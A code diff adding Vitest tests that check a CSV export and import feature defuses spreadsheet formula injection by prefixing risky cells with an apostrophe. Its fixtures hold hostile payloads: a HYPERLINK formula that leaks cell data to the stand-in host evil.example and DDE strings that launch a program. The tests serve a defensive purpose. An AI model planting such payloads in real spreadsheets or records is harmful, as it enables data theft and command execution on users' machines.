@@ -1,5 +1,6 @@
 import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { ok, tempDir, testApp } from '../../../test/helpers.js';
 
@@ -157,5 +158,114 @@ describe('CSV import and export', () => {
       'id,created_at,customer_id,customer_name,status,currency,subtotal,shipping,tax,total,paid,refunded,items',
     );
     expect(row).toMatch(/^1,.*,1,Ada,pending,USD,7.5,0,0,7.5,0,0,MUG-1×3$/);
+  });
+});
+
+/** What a spreadsheet runs as a formula when a cell starts with it (OWASP, "CSV injection"). */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+const HOSTILE_CUSTOMER = {
+  name: '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
+  email: '-cmd@example.com',
+  phone: '+44 20 7946 0958',
+  tags: ["@SUM(1+1)*cmd|' /C calc'!A0", 'vip'],
+  notes: "\t=cmd|' /C calc'!A1",
+  address: {
+    line1: "=cmd|'/c calc'!A1",
+    line2: '+1+1',
+    city: '-2+3',
+    region: '@SUM(A1:A9)',
+    postal_code: '=1',
+    country: 'DE',
+  },
+};
+
+const HOSTILE_PRODUCT = {
+  sku: 'EVIL-1',
+  name: '=HYPERLINK("http://evil.example","Mug")',
+  description: "\r=cmd|'/c calc'!A1",
+  category: '+Kitchen',
+  price: 12.5,
+  currency: 'EUR',
+  weight_kg: 0.25,
+  tags: ['-1+1'],
+  initial_stock: 4,
+};
+
+/** Every cell of an exported CSV, as a spreadsheet would read them; the header row left out. */
+function cells(csv: string): string[] {
+  return (parse(csv, { bom: true }) as string[][]).slice(1).flat();
+}
+
+describe('CSV export and import against formula injection', () => {
+  it('starts no exported cell of customers, products or orders with a formula character', async () => {
+    const app = testApp();
+    const customer = ok<{ id: number }>(await app.call('create_customer', HOSTILE_CUSTOMER));
+    ok(await app.call('create_product', HOSTILE_PRODUCT));
+    ok(
+      await app.call('create_order', {
+        customer_id: customer.id,
+        items: [{ product_id: 'EVIL-1', quantity: 2 }],
+      }),
+    );
+    for (const entity of ['customers', 'products', 'orders']) {
+      const out = ok<{ content: string }>(await app.call('export_csv', { entity }));
+      const all = cells(out.content);
+      expect(all.length).toBeGreaterThan(5);
+      expect(
+        all.filter((cell) => FORMULA_START.test(cell)),
+        entity,
+      ).toEqual([]);
+    }
+    const customers = ok<{ content: string }>(await app.call('export_csv', { entity: 'customers' })).content;
+    // Defused with an apostrophe, which a spreadsheet shows as text; the rest of the value is as it was.
+    expect(cells(customers)).toEqual(
+      expect.arrayContaining([`'${HOSTILE_CUSTOMER.name}`, `'${HOSTILE_CUSTOMER.notes}`, "'-cmd@example.com"]),
+    );
+    const orders = ok<{ content: string }>(await app.call('export_csv', { entity: 'orders' })).content;
+    expect(cells(orders)).toContain(`'${HOSTILE_CUSTOMER.name}`);
+  });
+
+  it('round-trips hostile values: an export imported again gives back the same records', async () => {
+    const folder = tempDir();
+    const app = testApp({ allowPaths: [folder] });
+    ok(await app.call('create_customer', HOSTILE_CUSTOMER));
+    ok(await app.call('create_customer', { name: "'=already quoted", email: 'q@example.com', notes: "''+2" }));
+    ok(await app.call('create_customer', { name: "It's fine", email: 'plain@example.com', notes: "'quoted'" }));
+    ok(await app.call('create_product', HOSTILE_PRODUCT));
+    const other = testApp({ allowPaths: [folder] });
+    for (const entity of ['customers', 'products'] as const) {
+      const file = join(folder, `${entity}.csv`);
+      ok(await app.call('export_csv', { entity, destination_path: file }));
+      const back = ok<Imported>(await other.call('import_csv', { entity, file_path: file }));
+      expect(back).toMatchObject({ imported: entity === 'customers' ? 3 : 1, bad_rows: [] });
+    }
+    const strip = ({ id: _id, created_at: _c, updated_at: _u, ...rest }: Record<string, unknown>) => rest;
+    const list = async (target: typeof app, name: string) =>
+      ok<{ items: Record<string, unknown>[] }>(await target.call(name, { limit: 100 })).items.map(strip);
+    expect(await list(other, 'list_customers')).toEqual(await list(app, 'list_customers'));
+    expect(await list(other, 'search_products')).toEqual(await list(app, 'search_products'));
+    const notes = (await list(other, 'list_customers')).map((c) => c['notes']);
+    expect(notes).toEqual(expect.arrayContaining([HOSTILE_CUSTOMER.notes, "''+2", "'quoted'"]));
+  });
+
+  it('imports a cell as it was given: a leading tab or carriage return stays', async () => {
+    const app = testApp();
+    const result = ok<Imported>(
+      await app.call('import_csv', {
+        entity: 'customers',
+        content: 'name,email,notes\nTab,tab@example.com,"\t=1+1"\nReturn,cr@example.com,"\r=1+1"\n',
+      }),
+    );
+    expect(result).toMatchObject({ imported: 2, bad_rows: [] });
+    const notes = ok<{ items: { name: string; notes: string }[] }>(await app.call('list_customers', {})).items.map(
+      (c) => [c.name, c.notes],
+    );
+    expect(notes).toEqual(
+      expect.arrayContaining([
+        ['Tab', '\t=1+1'],
+        ['Return', '\r=1+1'],
+      ]),
+    );
   });
 });
